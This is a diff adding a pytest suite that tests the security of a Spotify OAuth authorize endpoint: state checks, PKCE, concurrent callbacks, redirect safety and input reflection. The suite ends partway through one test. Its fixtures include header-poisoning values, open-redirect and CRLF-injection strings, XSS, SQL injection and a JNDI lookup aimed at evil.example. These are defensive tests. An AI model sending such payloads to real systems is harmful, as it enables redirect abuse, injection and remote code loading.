@@ -1,0 +1,978 @@
+"""The border of `GET /api/spotify/authorize`: requirements D1 to D12, each test named for its own.
+
+What one flow does by itself is in `test_authorize.py`, where further tests of these requirements are.
+Custody's part of D9 is in `test_tokens.py`.
+"""
+
+import base64
+import hashlib
+import logging
+import re
+import threading
+import time
+from collections.abc import Callable, Iterator
+from concurrent.futures import Future, ThreadPoolExecutor
+from contextlib import AbstractContextManager, contextmanager
+from datetime import UTC, datetime, timedelta
+from typing import Any
+from urllib.parse import parse_qs, quote, urlencode, urlsplit
+
+import msgspec
+import pytest
+import requests
+import sqlalchemy as sa
+from flask import Flask
+from flask.testing import FlaskClient
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from werkzeug.test import TestResponse
+
+from app.infra.database import reading, writing
+from app.infra.logs import JsonFormatter
+from app.models import AccessToken, SpotifyUser, User
+from app.services import services
+from app.spotify import connections
+from app.spotify.clients.accounts_bulkhead import Waiter
+from app.spotify.oauth import state
+from tests.helpers.flows import another_tab, come_back, connect, first_visit, login, register, slug
+from tests.helpers.sandbox_client import REDIRECT_URI, SandboxClient, answer_of
+from tests.helpers.servers import Server, eventually
+
+pytestmark = pytest.mark.slow
+
+PAGE = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
+PROGRAM = {"Accept": "application/json"}
+FRONTEND = "http://127.0.0.1:5000/api/docs"
+RESULTS = {
+    f"{FRONTEND}?spotify={result}"
+    for result in (
+        "connected",
+        "denied",
+        "error-spotify-state-mismatch",
+        "error-spotify-account-in-use",
+        "error-spotify-account-mismatch",
+        "error-spotify-unavailable",
+        "error-spotify-rate-limited",
+        "error-spotify-misconfigured",
+        "error-service-unavailable",
+        "error-validation-error",
+        "error-not-signed-in",
+    )
+}
+
+# Where the database has no say, one is enough.
+ONE_DATABASE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+
+NewClient = Callable[[], FlaskClient]
+Query = dict[str, str] | str
+
+
+@pytest.fixture(autouse=True)
+def _hear_events(caplog: pytest.LogCaptureFixture) -> None:
+    caplog.set_level(logging.INFO, "app")
+
+
+def logged(caplog: pytest.LogCaptureFixture, event: str, field: str) -> list[Any]:
+    """What stood in that field of each such event."""
+    return [vars(record)[field] for record in caplog.records if record.getMessage() == event]
+
+
+def visit(client: FlaskClient, query: Query, accept: dict[str, str], **headers: str) -> TestResponse:
+    return client.get("/api/spotify/authorize", query_string=query, headers=accept | headers)
+
+
+def as_page(client: FlaskClient, callback: str) -> TestResponse:
+    """Come back as a browser does whose redirect URI is the API's own."""
+    return visit(client, answer_of(callback), PAGE)
+
+
+def result(response: TestResponse) -> str:
+    """What the SPA is told. Fails if the browser is not sent there."""
+    assert response.status_code == 303, response.text
+    assert response.headers["Location"] in RESULTS
+    return response.headers["Location"].partition("?spotify=")[2]
+
+
+def token_calls(sandbox: SandboxClient) -> int:
+    return len(sandbox.calls(path="/api/token"))
+
+
+def stored(app: Flask) -> list[Any]:
+    """Every column of every link and token, byte for byte."""
+    with app.app_context(), reading() as db:
+        return [
+            [tuple(row) for row in db.execute(table.select())]
+            for table in (SpotifyUser.__table__, AccessToken.__table__)
+        ]
+
+
+def links_and_owners(app: Flask) -> list[tuple[str, int | None]]:
+    with app.app_context(), reading() as db:
+        return [(link.spotify_id, link.user_id) for link in db.scalars(sa.select(SpotifyUser))]
+
+
+@contextmanager
+def in_flight(client: FlaskClient, callback: str, sandbox: SandboxClient) -> Iterator["Future[TestResponse]"]:
+    """A callback that hangs at Spotify during the block, and ends after it."""
+    tab = another_tab(client)
+    sandbox.fault(on="me", kind="park", times=1)
+    with ThreadPoolExecutor(1) as pool:
+        callback_under_way = pool.submit(come_back, tab, callback)
+        try:
+            sandbox.wait_for_held(1)
+            yield callback_under_way
+        finally:
+            sandbox.release()
+
+
+# --- D1: a state that is not this session's own, fresh and unused ----------------------------------
+
+
+def missing(client: FlaskClient, app: Flask, sandbox: SandboxClient) -> tuple[FlaskClient, dict[str, str]]:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+    return client, {"code": callback["code"]}
+
+
+def unknown(client: FlaskClient, app: Flask, sandbox: SandboxClient) -> tuple[FlaskClient, dict[str, str]]:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+    return client, {**callback, "state": "A" * 43}
+
+
+def used(client: FlaskClient, app: Flask, sandbox: SandboxClient) -> tuple[FlaskClient, dict[str, str]]:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+    denied = visit(client, {"error": "access_denied", "state": callback["state"]}, PROGRAM)
+    assert slug(denied) == "spotify-access-denied"
+    return client, callback
+
+
+def expired(client: FlaskClient, app: Flask, sandbox: SandboxClient) -> tuple[FlaskClient, dict[str, str]]:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+    store = app.extensions["backline"].redis
+    keys = store.keys("author*")
+    assert len(keys) == 1
+    for key in keys:
+        store.pexpire(key, 1)
+    eventually(lambda: not store.exists(*keys))
+    return client, callback
+
+
+def another_users(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient
+) -> tuple[FlaskClient, dict[str, str]]:
+    other = app.test_client()
+    register(other)
+    return other, answer_of(sandbox.consent(first_visit(client)))
+
+
+def another_sessions(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient
+) -> tuple[FlaskClient, dict[str, str]]:
+    """The same user's, in another browser."""
+    other = app.test_client()
+    assert login(other, "ada").status_code == 200
+    return other, answer_of(sandbox.consent(first_visit(client)))
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("accept", [PROGRAM, PAGE], ids=["program", "page"])
+@pytest.mark.parametrize("wrong", [missing, unknown, used, expired, another_users, another_sessions])
+def test_d1_a_wrong_state_is_refused_without_a_token_request(
+    client: FlaskClient,
+    app: Flask,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    wrong: Callable[[FlaskClient, Flask, SandboxClient], tuple[FlaskClient, dict[str, str]]],
+    accept: dict[str, str],
+) -> None:
+    register(client, "ada")
+    browser, query = wrong(client, app, sandbox)
+    caplog.clear()
+
+    response = visit(browser, query, accept)
+
+    if accept is PAGE:
+        assert result(response) == "error-spotify-state-mismatch"
+    else:
+        assert (response.status_code, slug(response)) == (400, "spotify-state-mismatch")
+    assert token_calls(sandbox) == 0
+    assert stored(app) == [[], []]
+    assert logged(caplog, "spotify_refused", "reason") == ["spotify-state-mismatch"]
+
+
+# --- D2: PKCE --------------------------------------------------------------------------------------
+
+
+def pending_key(state: str) -> str:
+    return f"authorization:{hashlib.sha256(state.encode()).hexdigest()}"
+
+
+def verifier_of(app: Flask, state: str) -> str:
+    """The verifier of a flow under way, which only somebody with Redis and the keys can read."""
+    with app.app_context():
+        raw: Any = services().redis.get(pending_key(state))
+        packed = services().redis_cipher.decrypt(pending_key(state), raw)
+        assert packed is not None
+        entry = msgspec.msgpack.decode(packed, type=state.Authorization)
+        return services().sealer.open(entry.verifier, "verifier", pending_key(state))
+
+
+def change_pending(app: Flask, state: str, **values: object) -> None:
+    with app.app_context():
+        raw: Any = services().redis.get(pending_key(state))
+        packed = services().redis_cipher.decrypt(pending_key(state), raw)
+        assert packed is not None
+        changed = msgspec.msgpack.encode({**msgspec.msgpack.decode(packed), **values})
+        encrypted = services().redis_cipher.encrypt(pending_key(state), changed)
+        services().redis.set(pending_key(state), encrypted, keepttl=True)
+
+
+@ONE_DATABASE
+def test_d2_each_flow_has_a_verifier_of_its_own_and_sends_its_sha_256(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient
+) -> None:
+    urls = [first_visit(client) for _ in range(2)]
+    queries = [answer_of(url) for url in urls]
+    verifiers = [verifier_of(app, query["state"]) for query in queries]
+
+    assert len({query["state"] for query in queries}) == len(set(verifiers)) == 2
+    for query, verifier in zip(queries, verifiers, strict=True):
+        assert re.fullmatch(r"[\w-]{43,128}", verifier, re.ASCII)
+        digest = base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).rstrip(b"=").decode()
+        assert (query["code_challenge_method"], query["code_challenge"]) == ("S256", digest)
+
+
+@ONE_DATABASE
+def test_d2_the_verifier_is_in_no_answer_cookie_log_or_key(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    begun = client.get("/api/spotify/authorize")
+    url = begun.json["authorize_url"]
+    verifier = verifier_of(app, answer_of(url)["state"])
+    store = app.extensions["backline"].redis
+    kept = [store.get(key) for key in store.keys("author*")]
+
+    done = come_back(client, sandbox.consent(url))
+
+    assert done.json["status"] == "connected"
+    kept += [store.get(key) for key in store.keys("author*")]
+    answers = [f"{response.headers}{response.text}" for response in (begun, done)]
+    lines = map(JsonFormatter().format, caplog.records)
+    assert not any(verifier in text for text in (*answers, *lines))
+    assert not any(verifier.encode() in value for value in kept)
+
+
+@ONE_DATABASE
+def test_d2_spotify_refuses_a_wrong_verifier_and_nothing_is_stored(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient
+) -> None:
+    callback = sandbox.consent(first_visit(client))
+    state = answer_of(callback)["state"]
+    with app.app_context():
+        wrong = services().sealer.seal("not-the-verifier-" * 3, "verifier", pending_key(state))
+    change_pending(app, state, verifier=wrong)
+
+    response = come_back(client, callback)
+
+    assert (response.status_code, slug(response)) == (401, "spotify-access-denied")
+    assert token_calls(sandbox) == 1
+    assert stored(app) == [[], []]
+    assert connect(client, sandbox)["status"] == "connected"
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("damage", ["no msgpack", "another flow's", "damaged", "an unknown status"])
+def test_d2_a_pending_entry_that_was_tampered_with_is_refused_at_once(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient, damage: str
+) -> None:
+    callback = sandbox.consent(first_visit(client))
+    state, other = (answer_of(url)["state"] for url in (callback, first_visit(client)))
+    store = app.extensions["backline"].redis
+    if damage == "no msgpack":
+        store.set(pending_key(state), b"\xc1")
+    elif damage == "another flow's":
+        store.copy(pending_key(other), pending_key(state), replace=True)
+    elif damage == "damaged":
+        change_pending(app, state, verifier=b"\x00" * 60)
+    else:
+        change_pending(app, state, status="somehow")
+
+    began = time.monotonic()
+    response = come_back(client, callback)
+
+    assert (response.status_code, slug(response)) == (400, "spotify-state-mismatch")
+    assert time.monotonic() - began < state.WAIT_SECONDS / 2  # it waits for no twin
+    assert token_calls(sandbox) == 0
+
+
+# --- D3: a callback that comes twice ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("signed_in", [True, False], ids=["user", "visitor"])
+def test_d3_a_page_that_is_reloaded_has_the_same_answer_also_from_another_worker(
+    client: FlaskClient, another_worker: Flask, app: Flask, sandbox: SandboxClient, signed_in: bool
+) -> None:
+    if signed_in:
+        register(client)
+    callback = sandbox.consent(first_visit(client))
+    first = as_page(client, callback)
+    before = stored(app)
+
+    again = as_page(client, callback)
+    elsewhere = as_page(another_tab(client, another_worker), callback)
+
+    assert [result(response) for response in (first, again, elsewhere)] == ["connected"] * 3
+    assert first.data == again.data == elsewhere.data
+    assert token_calls(sandbox) == 1
+    assert stored(app) == before
+
+
+@pytest.mark.parametrize("signed_in", [True, False], ids=["user", "visitor"])
+def test_d3_twenty_at_once_across_two_workers_are_one_token_request_and_one_answer(
+    client: FlaskClient,
+    app: Flask,
+    another_worker: Flask,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    monkeypatch: pytest.MonkeyPatch,
+    signed_in: bool,
+) -> None:
+    if signed_in:
+        register(client)
+    callback = sandbox.consent(first_visit(client))
+    waiting, wait_for_result = threading.Semaphore(0), state.wait_for_result
+
+    def counted(state: str, user_id: int | None, waiter: Waiter) -> int | None:
+        waiting.release()
+        return wait_for_result(state, user_id, waiter)
+
+    monkeypatch.setattr(state, "wait_for_result", counted)
+    tabs = [another_tab(client, worker) for worker in (app, another_worker) for _ in range(10)]
+    sandbox.fault(on="code", kind="park", times=1)
+    with ThreadPoolExecutor(20) as pool:
+        answers = [pool.submit(as_page, tab, callback) for tab in tabs]
+        try:
+            sandbox.wait_for_held(1)
+            assert all(waiting.acquire(timeout=10) for _ in range(19))
+        finally:
+            sandbox.release()
+
+    assert [result(answer.result()) for answer in answers] == ["connected"] * 20
+    assert len({answer.result().data for answer in answers}) == 1
+    # Whichever of them the browser keeps, it is connected.
+    assert {tab.get("/api/spotify").json["status"] for tab in tabs} == {"connected"}
+    assert token_calls(sandbox) == 1
+    assert [len(table) for table in stored(app)] == [1, 1]
+    assert len(logged(caplog, "spotify_connected", "link")) == 1
+    assert logged(caplog, "spotify_refused", "reason") == []
+
+
+# --- D4: where people are sent ---------------------------------------------------------------------
+
+POISONS = {
+    "Host": {"Host": "evil.example"},
+    "Host with a port": {"Host": "127.0.0.1:5000@evil.example"},
+    "X-Forwarded-Host": {"X-Forwarded-Host": "evil.example"},
+    "X-Forwarded-Proto and -Port": {"X-Forwarded-Proto": "https", "X-Forwarded-Port": "4443"},
+    "X-Forwarded-Prefix": {"X-Forwarded-Prefix": "//evil.example"},
+    "X-Forwarded-Server": {"X-Forwarded-Server": "evil.example", "X-Host": "evil.example"},
+    "Forwarded": {"Forwarded": "for=1.2.3.4;host=evil.example;proto=https"},
+    "X-Original-URL": {"X-Original-URL": "//evil.example/", "X-Rewrite-URL": "//evil.example/"},
+    "Referer and Origin": {"Referer": "https://evil.example/", "Origin": "https://evil.example"},
+}
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("poison", POISONS.values(), ids=POISONS.keys())
+def test_d4_no_header_changes_where_people_are_sent(
+    env: dict[str, str],
+    sandbox: SandboxClient,
+    request: pytest.FixtureRequest,
+    poison: dict[str, str],
+) -> None:
+    env["TRUSTED_PROXIES"] = "1"
+    client = request.getfixturevalue("client")
+    if "Host" in poison:
+        client.environ_base["HTTP_HOST"] = poison["Host"]
+
+    begun = visit(client, "", PROGRAM, **poison)
+    sent_on = visit(client, "", PAGE, **poison)
+    url = begun.json["authorize_url"]
+    done = visit(client, answer_of(sandbox.consent(url)), PAGE, **poison)
+
+    for target in (url, sent_on.headers["Location"]):
+        assert target.startswith(f"{sandbox.accounts_url}/authorize?")
+        assert answer_of(target)["redirect_uri"] == REDIRECT_URI
+    # Spotify exchanges a code only with the redirect URI that it was made for.
+    assert result(done) == "connected"
+    assert "evil" not in f"{begun.headers}{sent_on.headers}{sent_on.text}{done.headers}{done.text}"
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize(
+    "target",
+    [
+        "//evil.example",
+        "/\\evil.example",
+        "https:evil.example",
+        "https://evil.example/",
+        "javascript:alert('evil')",
+        "ok\r\nLocation: https://evil.example",
+        "ok\r\n\r\n<script>evil</script>",
+        "\u560d\u560aLocation: https://evil.example",
+    ],
+)
+def test_d4_no_parameter_changes_where_people_are_sent(
+    client: FlaskClient, sandbox: SandboxClient, target: str
+) -> None:
+    names = ("next", "redirect", "redirect_uri", "return_to", "url", "spotify", "FRONTEND_URL", "scope")
+    further = dict.fromkeys(names, target)
+
+    sent_on = visit(client, further, PAGE)
+    callback = answer_of(sandbox.consent(sent_on.headers["Location"]))
+    done = visit(client, {**further, **callback}, PAGE)
+    client.delete("/api/spotify")
+    refused = [visit(client, {**further, name: target}, PAGE) for name in ("code", "error")]
+    refused.append(visit(client, {"code": target, "error": target, "state": target}, PAGE))
+
+    assert answer_of(sent_on.headers["Location"])["redirect_uri"] == REDIRECT_URI
+    assert result(done) == "connected"
+    assert [result(response) for response in refused] == ["error-spotify-state-mismatch"] * 3
+    for response in (sent_on, done, *refused):
+        assert "evil" not in f"{response.headers}{response.text}"
+        assert len(response.headers.getlist("Location")) == 1
+
+
+# --- D5: one authorization server ------------------------------------------------------------------
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("issuer", ["https://evil.example", "https://accounts.spotify.com", ""])
+def test_d5_a_parameter_that_names_another_issuer_is_ignored(
+    client: FlaskClient, sandbox: SandboxClient, issuer: str
+) -> None:
+    """There is one server, and it sends no `iss`: an unknown parameter is ignored (RFC 6749 section 4.1.2).
+
+    The mix-up that `iss` is against (RFC 9207) needs a second server; a code goes to ours only.
+    """
+    callback = answer_of(sandbox.consent(first_visit(client)))
+
+    response = visit(client, {**callback, "iss": issuer, "issuer": issuer, "token_endpoint": issuer}, PAGE)
+
+    assert result(response) == "connected"
+    [exchange] = sandbox.calls(path="/api/token")
+    assert exchange["status"] == 200
+
+
+@ONE_DATABASE
+def test_d5_the_authorization_server_comes_from_the_settings_only(
+    env: dict[str, str], request: pytest.FixtureRequest
+) -> None:
+    env["SPOTIFY_ACCOUNTS_URL"] = "https://accounts.example.com"
+    client = request.getfixturevalue("client")
+
+    further = {"iss": "https://evil.example", "authorization_endpoint": "https://evil.example/authorize"}
+    response = visit(client, further, PAGE)
+
+    assert response.headers["Location"].startswith("https://accounts.example.com/authorize?")
+    assert "evil" not in response.headers["Location"]
+
+
+# --- D6: one Spotify account, one owner ------------------------------------------------------------
+
+
+def five_sessions(app: Flask, name: str) -> list[FlaskClient]:
+    clients = [app.test_client() for _ in range(5)]
+    register(clients[0], name)
+    for client in clients[1:]:
+        assert login(client, name).status_code == 200
+    return clients
+
+
+def test_d6_fifty_callbacks_at_once_by_two_users_make_one_link_with_one_owner(
+    app: Flask, another_worker: Flask, sandbox: SandboxClient, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Five sessions each, five flows in each, half of them on another worker, all stored at once."""
+    names, workers = ("ada", "bob"), (app, another_worker)
+    sessions = {name: five_sessions(app, name) for name in names}
+    with requests.Session() as person:
+        person.trust_env = False
+        callbacks = [
+            (name, another_tab(client, workers[number % 2]), sandbox.consent(url, browser=person))
+            for name in names
+            for client in sessions[name]
+            for number, url in enumerate(first_visit(client) for _ in range(5))
+        ]
+        late = [
+            (client, sandbox.consent(first_visit(client), browser=person))
+            for name in names
+            for client in sessions[name]
+        ]
+    sandbox.fault(on="me", kind="park", times=50)
+    with ThreadPoolExecutor(50) as pool:
+        answers = [(name, pool.submit(come_back, tab, callback)) for name, tab, callback in callbacks]
+        try:
+            sandbox.wait_for_held(50)
+        finally:
+            sandbox.release()
+    by_user = {
+        name: [(future.result().status_code, future.result()) for of, future in answers if of == name]
+        for name in names
+    }
+
+    [(spotify_id, owner_id)] = links_and_owners(app)
+    with app.app_context(), reading() as db:
+        owner = db.get_one(User, owner_id).username
+    [loser] = set(names) - {owner}
+    assert spotify_id == "mira_t_42"
+    assert [status for status, _ in by_user[owner]] == [200] * 25
+    assert {slug(response) for _, response in by_user[loser]} == {"spotify-account-in-use"}
+    assert [status for status, _ in by_user[loser]] == [409] * 25
+    assert [len(table) for table in stored(app)] == [1, 1]
+    assert logged(caplog, "spotify_refused", "reason") == ["spotify-account-in-use"] * 25
+    assert len(logged(caplog, "spotify_connected", "link")) == 25
+    assert len(set(logged(caplog, "spotify_connected", "link"))) == 1
+
+    # From now on there is an owner, and nothing of theirs changes by a byte.
+    before = stored(app)
+    for client, callback in late:
+        if client in sessions[loser]:
+            assert slug(come_back(client, callback)) == "spotify-account-in-use"
+            assert client.get("/api/spotify").json == {"status": "not_connected"}
+            assert client.get("/api/spotify/token").status_code == 409
+    assert stored(app) == before
+    sandbox.clear_calls()
+    assert {client.get("/api/spotify/token").status_code for client in sessions[owner]} == {200}
+    assert sandbox.calls() == []
+
+
+def test_d6_the_refusal_does_not_say_whose_account_it_is(
+    new_client: NewClient, sandbox: SandboxClient, caplog: pytest.LogCaptureFixture
+) -> None:
+    owner, other = new_client(), new_client()
+    register(owner, "ada")
+    connect(owner, sandbox)
+    register(other, "bob")
+    one, two = (sandbox.consent(first_visit(other)) for _ in range(2))
+    caplog.clear()
+
+    refused, page = come_back(other, one), as_page(other, two)
+
+    assert (refused.status_code, slug(refused)) == (409, "spotify-account-in-use")
+    assert result(page) == "error-spotify-account-in-use"
+    assert not any(word in refused.text + page.text for word in ("ada", "mira", "Mira"))
+    assert logged(caplog, "spotify_refused", "reason") == ["spotify-account-in-use"] * 2
+    assert logged(caplog, "spotify_connected", "link") == []
+
+
+# --- D7: an attacker's callback in the victim's browser --------------------------------------------
+
+
+@pytest.mark.parametrize("accept", [PROGRAM, PAGE], ids=["program", "page"])
+@pytest.mark.parametrize("victim_is", ["a stranger", "a visitor", "signed in", "connected"])
+def test_d7_an_attackers_callback_links_nothing_to_the_victim(
+    new_client: NewClient,
+    app: Flask,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    victim_is: str,
+    accept: dict[str, str],
+) -> None:
+    attacker, victim = new_client(), new_client()
+    register(attacker, "mallory")
+    callback = sandbox.consent(first_visit(attacker), person="aiko-87")
+    if victim_is == "a visitor":
+        first_visit(victim)
+    elif victim_is != "a stranger":
+        register(victim, "ada")
+    if victim_is == "connected":
+        connect(victim, sandbox)
+    spotify, before = victim.get("/api/spotify").json, stored(app)
+    sandbox.clear_calls()
+    caplog.clear()
+
+    response = visit(victim, answer_of(callback), accept)
+
+    if victim_is == "connected":  # with what it was connected with before
+        assert (result(response) if accept is PAGE else response.json["status"]) == "connected"
+    elif accept is PAGE:
+        assert result(response) == "error-spotify-state-mismatch"
+    else:
+        assert (response.status_code, slug(response)) == (400, "spotify-state-mismatch")
+    assert "Set-Cookie" not in response.headers
+    assert victim.get("/api/spotify").json == spotify
+    assert stored(app) == before
+    assert sandbox.calls() == []
+    assert logged(caplog, "spotify_refused", "reason") == ["spotify-state-mismatch"]
+    # Nor does the attempt take anything from the person whose state it is.
+    assert come_back(attacker, callback).json["spotify"]["spotify_id"] == "aiko-87"
+
+
+# --- D8: who leaves in mid-flow --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("then", ["nobody", "the same user", "another user"])
+def test_d8_a_callback_in_flight_links_to_nobody_once_its_user_has_signed_out(
+    client: FlaskClient,
+    app: Flask,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    then: str,
+) -> None:
+    register(app.test_client(), "bob")
+    register(client, "ada")
+    callback = sandbox.consent(first_visit(client))
+    with in_flight(client, callback, sandbox) as answer:
+        client.post("/api/logout")
+        if then != "nobody":
+            login(client, "ada" if then == "the same user" else "bob")
+
+    assert (answer.result().status_code, slug(answer.result())) == (401, "not-signed-in")
+    assert "Set-Cookie" not in answer.result().headers
+    assert stored(app) == [[], []]
+    assert client.get("/api/spotify").json == {"status": "not_connected"}
+    assert client.get("/api/session").json["authenticated"] is (then != "nobody")
+    assert logged(caplog, "spotify_refused", "reason") == ["not-signed-in"]
+
+
+@pytest.mark.parametrize("leaves_by", ["registering", "signing in", "signing out"])
+def test_d8_a_visitor_who_leaves_in_mid_flow_leaves_no_link_behind(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient, leaves_by: str
+) -> None:
+    """It would be nobody's, out of reach, and kept for thirty days."""
+    register(app.test_client(), "ada")
+    callback = sandbox.consent(first_visit(client))
+    with in_flight(client, callback, sandbox) as answer:
+        if leaves_by == "registering":
+            register(client, "bob")
+        elif leaves_by == "signing in":
+            login(client, "ada")
+        else:
+            client.post("/api/logout")
+
+    assert slug(answer.result()) == "spotify-state-mismatch"
+    assert stored(app) == [[], []]
+    assert connect(client, sandbox)["spotify_id"] == "mira_t_42"
+
+
+def test_d8_whoever_is_in_a_session_that_has_ended_connects_as_a_new_visitor(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient
+) -> None:
+    """Its user has a new password since. What it connected would be nobody's, and out of its own reach."""
+    register(client, "ada")
+    with app.app_context(), writing() as db:
+        db.execute(sa.update(User).values(session_epoch=User.session_epoch + 1))
+
+    connected = connect(client, sandbox)
+
+    assert client.get("/api/spotify").json == connected
+    assert client.get("/api/session").json["authenticated"] is False
+    assert links_and_owners(app) == [("mira_t_42", None)]
+
+
+# --- D9: another account, and refreshes that come late ---------------------------------------------
+
+
+@pytest.mark.parametrize("then", [None, "mira_t_42", "aiko-87"], ids=["no more", "the same", "another"])
+def test_d9_a_late_refresh_undoes_no_disconnect_and_no_new_connection(
+    client: FlaskClient, app: Flask, sandbox: SandboxClient, then: str | None
+) -> None:
+    register(client)
+    connect(client, sandbox, person="mira_t_42")
+    with app.app_context(), writing() as db:
+        db.execute(sa.update(AccessToken).values(expires_at=datetime.now(UTC) - timedelta(minutes=1)))
+    tab = another_tab(client)
+    sandbox.fault(on="refresh", kind="park", times=1)
+    with ThreadPoolExecutor(1) as pool:
+        late = pool.submit(tab.get, "/api/spotify/token")
+        sandbox.wait_for_held(1)
+        assert client.delete("/api/spotify").status_code == 204
+        if then is not None:
+            connect(client, sandbox, person=then)
+        before = stored(app)
+        sandbox.release()
+
+    assert (late.result().status_code, slug(late.result())) == (409, "spotify-not-connected")
+    assert stored(app) == before
+    assert [len(table) for table in before] == [then is not None] * 2
+
+
+# --- D10: whatever is sent -------------------------------------------------------------------------
+
+MARK = "Zq9Reflected"
+REFUSALS = ("spotify-state-mismatch", "spotify-unavailable", "validation-error")
+BODIES: dict[str, bytes] = {}
+"""The page to each result, which is the same whatever was sent."""
+
+values = st.one_of(
+    st.text(max_size=50).map(str.encode),
+    st.binary(max_size=50),
+    st.sampled_from(
+        [
+            b"access_denied",
+            b"server_error",
+            b"<script>alert(1)</script>",
+            b'"><img src=//evil.example>',
+            b"\r\nSet-Cookie: backline_session=evil",
+            b"\x00\xff\xfe",
+            b"${jndi:ldap://evil.example}",
+            b"' OR 1=1 --",
+            b"x" * 65_536,
+            "\U0001f3b5".encode() * 16_384,
+        ]
+    ),
+).map(lambda value: MARK.encode() + value)
+parameters = st.lists(
+    st.tuples(
+        st.sampled_from(
+            ["code", "error", "state", "iss", "next", "spotify", "error_description", "code[]", ""]
+        ),
+        st.one_of(values, st.just(b"")),
+    ),
+    max_size=5,
+)
+
+
+@ONE_DATABASE
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    one=st.tuples(st.sampled_from(["code", "error"]), values),
+    others=parameters,
+    with_state=st.booleans(),
+    accept=st.sampled_from([PAGE, PAGE, PROGRAM]),
+)
+def test_d10_whatever_comes_back_ends_in_a_fixed_result_and_is_not_reflected(
+    client: FlaskClient,
+    one: tuple[str, bytes],
+    others: list[tuple[str, bytes]],
+    with_state: bool,
+    accept: dict[str, str],
+) -> None:
+    # A callback that is refused does not end its authorization, and one session may have 30 at a time.
+    client.application.extensions["backline"].redis.flushdb()
+    pairs = [*others, one]
+    if with_state:
+        pairs.append(("state", answer_of(first_visit(client))["state"].encode()))
+    query = "&".join(f"{quote(name)}={quote(value)}" for name, value in pairs)
+
+    response = visit(client, query, accept)
+
+    if accept is PAGE:
+        told = result(response)
+        assert told in ("denied", *(f"error-{slug}" for slug in REFUSALS))
+        assert BODIES.setdefault(told, response.data) == response.data
+    else:
+        assert slug(response) in ("spotify-access-denied", *REFUSALS)
+    sent_back = f"{response.headers}{response.text}"
+    assert MARK not in sent_back
+    assert "evil" not in sent_back
+    assert "x" * 100 not in sent_back
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("fault", [None, "google_502", "truncated_json", "invalid_client", "rate_limited"])
+@pytest.mark.parametrize("on", ["code", "me"])
+def test_d10_a_page_has_a_fixed_result_also_when_spotify_fails(
+    client: FlaskClient, sandbox: SandboxClient, on: str, fault: str | None
+) -> None:
+    callback = sandbox.consent(first_visit(client))
+    if fault is not None:
+        sandbox.fault(on=on, kind=fault, times=None)
+
+    response = as_page(client, callback)
+
+    assert (result(response) == "connected") is (fault is None)
+
+
+@ONE_DATABASE
+def test_d10_code_and_error_together_are_an_error(client: FlaskClient, sandbox: SandboxClient) -> None:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+
+    assert result(visit(client, {**callback, "error": "server_error"}, PAGE)) == "error-spotify-unavailable"
+    assert token_calls(sandbox) == 0
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("twice", ["code", "state", "error"])
+def test_d10_a_parameter_that_stands_twice_is_refused_and_logged(
+    client: FlaskClient, sandbox: SandboxClient, caplog: pytest.LogCaptureFixture, twice: str
+) -> None:
+    callback = answer_of(sandbox.consent(first_visit(client)))
+    query = urlencode([*callback.items(), (twice, "a"), (twice, "b")])
+
+    response, page = visit(client, query, PROGRAM), visit(client, query, PAGE)
+
+    assert (response.status_code, response.json["errors"]) == (422, {twice: ["Must not be repeated."]})
+    assert result(page) == "error-validation-error"
+    assert token_calls(sandbox) == 0
+    assert logged(caplog, "spotify_refused", "reason") == ["validation-error"] * 2
+
+
+# --- D11: what the answer to a callback carries ----------------------------------------------------
+
+
+@ONE_DATABASE
+@pytest.mark.parametrize("accept", [PROGRAM, PAGE], ids=["program", "page"])
+@pytest.mark.parametrize("outcome", ["connected", "denied", "refused"])
+def test_d11_the_answer_to_a_callback_is_kept_nowhere_and_tells_no_other_site(
+    client: FlaskClient,
+    sandbox: SandboxClient,
+    caplog: pytest.LogCaptureFixture,
+    outcome: str,
+    accept: dict[str, str],
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    decision = "cancel" if outcome == "denied" else "agree"
+    callback = answer_of(sandbox.consent(first_visit(client), decision=decision))
+    if outcome == "refused":
+        first_visit(client)
+        callback["state"] = callback["state"].swapcase()
+    caplog.clear()  # of the URLs that the person's browser, which is this process too, has opened
+
+    response = visit(client, callback, accept)
+
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Referrer-Policy"] == "no-referrer"
+    assert response.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
+    assert "Refresh" not in response.headers
+    if accept is PAGE:
+        assert response.status_code == 303
+        assert all(
+            url.startswith(FRONTEND) for url in re.findall(r"(?:https?:)?//[^\"'<>\s]+", response.text)
+        )
+        assert not re.search(r"<(?:script|img|link|iframe|style|form)\b", response.text)
